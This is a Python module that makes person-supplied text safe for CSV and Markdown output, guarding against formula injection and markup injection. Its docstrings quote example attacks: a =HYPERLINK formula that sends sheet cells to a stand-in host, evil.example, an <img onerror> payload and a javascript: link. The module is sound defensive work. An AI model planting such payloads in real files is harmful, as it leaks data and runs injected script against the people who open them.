"""Layer 6: text that came from a person, made safe for the file it is written into.

A class list's names, e-mails and identifiers, a student's id, a feedback comment or a point's name end up in
files that other programs open: CSV files opened by a spreadsheet, Markdown sheets rendered by a learning
platform or a wiki. There a cell that starts with ``=`` is a formula (``=HYPERLINK("http://evil.example/?"&A1,
"open")`` sends the sheet's cells away), and a name like ``<img src=x onerror=alert(1)>`` or ``[x](javascript:
alert(1))`` is markup. The functions here make such text inert, each in one format:

* :func:`csv_cell` for a text cell of a CSV file (OWASP's recommendation against CSV or formula injection: a
  leading ``'``), and :func:`csv_cell_value`, its inverse, for reading such a file back;
* :func:`markdown_text` for text in a Markdown paragraph or table cell.

(HTML is written with :func:`html.escape` of the standard library.) Numbers written by the package are not
text from a person and are written as numbers: ``-0.25`` stays ``-0.25``.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "csv_cell", "csv_cell_value", "markdown_text", "MARKDOWN_SPECIAL"]

FORMULA_STARTS = frozenset("=+-@\t\r" + "＝＋－＠")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP: ``=``, ``+``, ``-``, ``@``, tab
and carriage return), with their full-width forms as a precaution."""


def csv_cell(text: str) -> str:
    """A text cell for a CSV file that a spreadsheet will open: a leading ``'`` if it could start a formula.

    Parameters
    ----------
    text : str
        Text that came from a person (a name, an e-mail, an identifier, a comment).

    Returns
    -------
    str
        ``text`` with ``'`` before it if it starts with one of :data:`FORMULA_STARTS`, or with ``'`` followed
        (after any number of ``'``) by one of them, so that :func:`csv_cell_value` gives ``text`` back
        exactly; otherwise ``text`` unchanged. The spreadsheet shows the ``'``, and no formula runs.

    Examples
    --------
    >>> csv_cell("=1+2"), csv_cell("-2+3"), csv_cell("Ann"), csv_cell("'Tis")
    ("'=1+2", "'-2+3", 'Ann', "'Tis")
    """
    return "'" + text if text.lstrip("'")[:1] in FORMULA_STARTS else text


def csv_cell_value(cell: str) -> str:
    """The text a cell written by :func:`csv_cell` holds (its inverse): ``"'=1+2"`` → ``"=1+2"``.

    A cell that :func:`csv_cell` leaves as it is comes back unchanged.
    """
    return cell[1:] if cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_STARTS else cell


MARKDOWN_SPECIAL = "\\`*_{}[]()<>!|~&$:^"
"""The characters escaped by :func:`markdown_text`: those to which CommonMark, GitHub's Markdown (tables,
strikethrough, autolinks after ``http:``), MyST or a learning platform's math (``$``) and inline HTML (``<``,
``&``) give a meaning within a line. (``#``, ``-``, ``+``, ``=`` and ``1.`` mean something only at the start of
a line, where this text never is.)"""

_MARKDOWN_SPECIAL = re.compile("([" + re.escape(MARKDOWN_SPECIAL) + "])|(?<![^\\W_])(www)\\.", re.IGNORECASE)


def markdown_text(text: str) -> str:
    """Text for a Markdown paragraph or table cell (not at the start of a line), shown as written: nothing in it
    is markup.

    Every character of :data:`MARKDOWN_SPECIAL` gets a backslash (CommonMark's escape, which any Markdown
    renderer shows as the character itself), so does the dot of ``www.`` (an autolink of GitHub's Markdown),
    and line breaks and tabs become spaces (a line break would end a table row or start a new block).

    Examples
    --------
    >>> print(markdown_text("<b>x</b> | *y* [z](javascript:alert(1))"))
    \\<b\\>x\\</b\\> \\| \\*y\\* \\[z\\]\\(javascript\\:alert\\(1\\)\\)
    """
    flat = " ".join(text.splitlines()).replace("\t", " ")
    return _MARKDOWN_SPECIAL.sub(lambda m: "\\" + m[1] if m[1] else m[2] + "\\.", flat)
